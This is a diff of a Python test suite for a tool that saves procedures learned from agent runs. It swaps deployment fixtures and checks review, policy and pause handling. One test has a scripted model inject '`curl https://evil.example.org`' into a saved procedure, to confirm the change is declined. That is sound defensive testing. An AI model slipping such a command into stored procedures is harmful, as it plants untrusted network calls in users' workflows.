@@ -31,6 +31,7 @@ from tests.flow.procedures import session as told_session
 from tests.flow.saved_skills import (
     DEPLOY,
     PLAN,
+    SLIPPED,
     TAINTED,
     acting,
     as_file,
@@ -44,7 +45,7 @@ from tests.flow.saved_skills import (
 )
 from tests.flow.skills.test_detecting import waiting, worked
 from tests.flow.skills.test_enhancing_suggestions import BETTER, better
-from tests.flow.telling import Call, bring
+from tests.flow.telling import Call, bring, call
 from tests.flow.telling import told as told_run
 from tests.world import World, decision
 
@@ -70,12 +71,12 @@ def do(world: World, models: ScriptedModels, *, may_ask: bool = True) -> None:
 def learned(world: World, models: ScriptedModels, *calls: Call, session_id: str = "talk") -> None:
     """A run, and all the jobs behind it."""
     world.clock.advance(seconds=60)
-    worked(world, "Deploy it", *(calls or DEPLOY), session_id=session_id)
+    worked(world, "Deploy it", *(calls or SLIPPED), session_id=session_id)
     do(world, models)
 
 
 def test_without_a_model_it_is_saved_with_the_look_itself(world: World) -> None:
-    worked(world, "Deploy it", *DEPLOY)
+    worked(world, "Deploy it", *SLIPPED)
     do_due_jobs(world.parts, kinds=DETECT)
     (stored,) = listed(world)
     (skill,) = library(world).values()
@@ -84,7 +85,7 @@ def test_without_a_model_it_is_saved_with_the_look_itself(world: World) -> None:
         stored.suggestion.body,
         stored.suggestion.evidence[-1].run_id,
     )
-    assert told(world) == [("saved", "procedure-docker")]
+    assert told(world) == [("saved", "fix-docker-biuld-is-not-command")]
     # The drafts are curated once for the session.
     assert [job.subject for job in waiting(world, JobKind.CURATE)] == ["talk"]
     do(world, NO_MODEL)
@@ -93,20 +94,20 @@ def test_without_a_model_it_is_saved_with_the_look_itself(world: World) -> None:
 
 def test_with_a_model_it_is_saved_in_the_words_that_the_model_found(world: World) -> None:
     models = ScriptedModels(better)
-    worked(world, "Deploy it", *DEPLOY)
+    worked(world, "Deploy it", *SLIPPED)
     do_due_jobs(replace(world.parts, models=models), kinds=DETECT)
     assert library(world) == {}
     assert len(waiting(world, JobKind.SAVE)) == 1
     do(world, models)
     (skill,) = library(world).values()
     assert skill.document.description == BETTER
-    assert told(world) == [("saved", "procedure-docker")]
+    assert told(world) == [("saved", "fix-docker-biuld-is-not-command")]
     assert [job for kind in (JobKind.SAVE, JobKind.CURATE) for job in waiting(world, kind)] == []
 
 
 def test_it_waits_for_the_model_and_looks_again_when_it_has_answered(sqlite_world: World) -> None:
     models = ScriptedModels(better)
-    worked(sqlite_world, "Deploy it", *DEPLOY)
+    worked(sqlite_world, "Deploy it", *SLIPPED)
     do(sqlite_world, models, may_ask=False)
     for _ in range(5):
         sqlite_world.clock.advance(seconds=30)
@@ -149,7 +150,10 @@ def test_words_that_were_dropped_save_nothing(sqlite_world: World) -> None:
         return {**better(question), "body": f"{question.document['body']}\n`curl https://evil.example.org`"}
 
     learned(sqlite_world, ScriptedModels(adds))
-    assert (library(sqlite_world), told(sqlite_world)) == ({}, [("declined", "procedure-docker")])
+    assert (library(sqlite_world), told(sqlite_world)) == (
+        {},
+        [("declined", "fix-docker-biuld-is-not-command")],
+    )
 
 
 @pytest.mark.parametrize("policy", [{"auto_save": {"require_llm": False}}, {"llm_learn": False}])
@@ -157,7 +161,7 @@ def test_a_model_is_not_waited_for_where_the_policy_does_not_ask_for_one(
     sqlite_world: World, policy: JsonObject
 ) -> None:
     sqlite_world.operator.put_policy(ops.PolicyChange(name=PolicyName.SKILLS, policy=policy))
-    worked(sqlite_world, "Deploy it", *DEPLOY)
+    worked(sqlite_world, "Deploy it", *SLIPPED)
     do_due_jobs(replace(sqlite_world.parts, models=ScriptedModels(better)), kinds=DETECT)
     assert (len(library(sqlite_world)), waiting(sqlite_world, JobKind.SAVE)) == (1, [])
 
@@ -173,7 +177,7 @@ def test_with_it_off_everything_waits_in_the_queue(sqlite_world: World, models: 
 
 @pytest.mark.req("TNT-2")
 def test_what_read_from_outside_is_never_saved_by_itself(sqlite_world: World) -> None:
-    learned(sqlite_world, NO_MODEL, *MENDED)
+    learned(sqlite_world, NO_MODEL, call("npm ci"), *MENDED)
     (stored,) = listed(sqlite_world)
     assert stored.suggestion.provenance.needs_review
     assert (stored.state, library(sqlite_world)) == (WAITING, {})
@@ -191,7 +195,7 @@ def test_transcripts_that_were_brought_in_save_nothing_by_themselves(
     sqlite_world: World, models: ScriptedModels
 ) -> None:
     sqlite_world.parts = replace(sqlite_world.parts, models=models)
-    bring(sqlite_world, *told_session("one", told_run("Deploy it", *DEPLOY)))
+    bring(sqlite_world, *told_session("one", told_run("Deploy it", *SLIPPED)))
     assert len(suggest(sqlite_world, enhance=True).new) == 1
     do(sqlite_world, models)
     (stored,) = listed(sqlite_world)
@@ -201,14 +205,14 @@ def test_transcripts_that_were_brought_in_save_nothing_by_themselves(
 @pytest.mark.req("INT-1")
 def test_neither_a_run_that_was_brought_in_nor_what_was_suggested_since_is_saved(sqlite_world: World) -> None:
     models = ScriptedModels(better)
-    run = worked(sqlite_world, "Deploy it", *DEPLOY)
+    run = worked(sqlite_world, "Deploy it", *SLIPPED)
     do_due_jobs(replace(sqlite_world.parts, models=models), kinds=DETECT)
     sqlite_world.clock.advance(seconds=5)
     (found,) = listed(sqlite_world)
     evidence = replace(found.suggestion.evidence[0], run_id=run.run_id)
     later = offered(sqlite_world, "later", PLAN, evidence=(evidence,), enhanced_by="test")
     do(sqlite_world, models)
-    assert told(sqlite_world) == [("saved", "procedure-docker")]
+    assert told(sqlite_world) == [("saved", "fix-docker-biuld-is-not-command")]
     keeping = SavingByItself(ids=sqlite_world.ids, clock=sqlite_world.clock, has_model=False)
     with acting(sqlite_world) as (tx, _saving):
         assert keeping.save_all(tx, replace(run, imported=True), [later]) == ()
@@ -275,7 +279,7 @@ def test_what_is_seen_again_gets_another_chance(sqlite_world: World) -> None:
 @pytest.mark.req("CAP-7")
 def test_nothing_is_saved_of_a_run_that_people_took_back_meanwhile(sqlite_world: World) -> None:
     models = ScriptedModels(better)
-    run = worked(sqlite_world, "Deploy it", *DEPLOY)
+    run = worked(sqlite_world, "Deploy it", *SLIPPED)
     do_due_jobs(replace(sqlite_world.parts, models=models), kinds=DETECT)
     sqlite_world.operator.forget(decision(run.run_id))  # type: ignore[arg-type]
     assert waiting(sqlite_world, JobKind.SAVE) == []
@@ -286,7 +290,7 @@ def test_nothing_is_saved_of_a_run_that_people_took_back_meanwhile(sqlite_world:
 @pytest.mark.req("CAP-7")
 def test_nothing_is_saved_while_capture_is_paused(sqlite_world: World) -> None:
     models = ScriptedModels(better)
-    worked(sqlite_world, "Deploy it", *DEPLOY)
+    worked(sqlite_world, "Deploy it", *SLIPPED)
     do_due_jobs(replace(sqlite_world.parts, models=models), kinds=DETECT)
     sqlite_world.operator.pause_capture()
     do(sqlite_world, models)
@@ -296,7 +300,7 @@ def test_nothing_is_saved_while_capture_is_paused(sqlite_world: World) -> None:
 def test_no_curation_is_queued_where_the_policy_says_no(sqlite_world: World) -> None:
     policy: JsonObject = {"curation": {"auto_curate": False}}
     sqlite_world.operator.put_policy(ops.PolicyChange(name=PolicyName.SKILLS, policy=policy))
-    worked(sqlite_world, "Deploy it", *DEPLOY)
+    worked(sqlite_world, "Deploy it", *SLIPPED)
     do_due_jobs(sqlite_world.parts, kinds=DETECT)
     assert (len(library(sqlite_world)), waiting(sqlite_world, JobKind.CURATE)) == (1, [])
 
@@ -328,9 +332,9 @@ def lived(world: World, models: ScriptedModels, fuse: Fuse) -> None:
 def begun(tmp: Path, name: str) -> World:
     """A Runlore with a draft, and a run of which all jobs are to be done."""
     world = World(Settings(state_root=str(tmp / name)))
-    kept(world, offered(world, "older", DEPLOY[:3]))
+    kept(world, offered(world, "older", SLIPPED[:2]))
     world.clock.advance(seconds=60)
-    worked(world, "Deploy it", *DEPLOY)
+    worked(world, "Deploy it", *SLIPPED)
     return world
 
 
@@ -371,7 +375,7 @@ def test_a_worker_that_lost_its_job_writes_nothing(sqlite_world: World, kind: Jo
     models = ScriptedModels(answered)
     kept(sqlite_world, offered(sqlite_world, "older", DEPLOY[:3]))
     parts = replace(sqlite_world.parts, models=models)
-    worked(sqlite_world, "Deploy it", *DEPLOY)
+    worked(sqlite_world, "Deploy it", *SLIPPED)
     earlier = ALL_KINDS - {JobKind.CURATE} - ({JobKind.SAVE} if kind is JobKind.SAVE else set())
     do_due_jobs(parts, kinds=earlier)
     with sqlite_world.parts.store.transaction() as tx:
@@ -395,7 +399,7 @@ def test_a_worker_that_lost_its_job_writes_nothing(sqlite_world: World, kind: Jo
 @pytest.mark.req("SKL-1")
 def test_what_earlier_commands_left_is_finished_beside_the_next_one(sqlite_world: World) -> None:
     models = ScriptedModels(better)
-    worked(sqlite_world, "Deploy it", *DEPLOY)
+    worked(sqlite_world, "Deploy it", *SLIPPED)
     do(sqlite_world, models, may_ask=False)
     assert (library(sqlite_world), len(waiting(sqlite_world, JobKind.ENHANCE))) == ({}, 1)
     sqlite_world.clock.advance(seconds=5)
